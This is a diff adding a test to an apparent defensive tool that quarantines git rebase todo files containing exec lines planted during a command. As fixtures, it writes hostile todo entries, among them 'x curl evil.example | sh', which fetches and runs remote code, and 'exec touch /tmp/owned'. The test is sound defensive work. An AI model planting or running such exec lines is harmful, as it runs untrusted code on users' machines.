@@ -81,3 +81,26 @@ test("the project's own commondir and alternates appearing during the command ar
     writeFileSync(path.join(root, '.git', 'objects', 'info', 'alternates'), '/tmp/objs\n');
   })).toEqual(['.git/commondir', '.git/objects/info/alternates']);
 });
+
+test("a todo list with exec lines left in the project's own .git or a nested repository is set aside; one without, or from before the command, stays", async () => {
+  const todo = (gitDir: string, text: string): void => {
+    mkdirSync(path.join(gitDir, 'rebase-merge'), { recursive: true });
+    writeFileSync(path.join(gitDir, 'rebase-merge', 'git-rebase-todo'), text);
+  };
+  // From before the command: the user's own rebase in progress.
+  mkdirSync(path.join(root, '.git', 'sequencer'), { recursive: true });
+  writeFileSync(path.join(root, '.git', 'sequencer', 'todo'), 'pick 1234567 mine\nexec make test\n');
+  await new Promise((resolve) => setTimeout(resolve, 50));
+  expect(
+    await around(() => {
+      todo(path.join(root, '.git'), 'pick 1234567 a\n  x curl evil.example | sh\n');
+      git(root, 'init', '-q', 'sub');
+      todo(path.join(root, 'sub', '.git'), 'pick 1234567 a\nexec touch /tmp/owned\n');
+      git(root, 'init', '-q', 'plain');
+      todo(path.join(root, 'plain', '.git'), 'pick 1234567 a\nreword 89abcde b\n# exec in a comment\n');
+    }),
+  ).toEqual(['.git/rebase-merge/git-rebase-todo', 'sub/.git/rebase-merge/git-rebase-todo']);
+  expect(existsSync(path.join(root, '.git', 'rebase-merge', `git-rebase-todo${QUARANTINE_SUFFIX}`))).toBe(true);
+  expect(readFileSync(path.join(root, '.git', 'sequencer', 'todo'), 'utf8')).toContain('exec make test');
+  expect(existsSync(path.join(root, 'plain', '.git', 'rebase-merge', 'git-rebase-todo'))).toBe(true);
+});
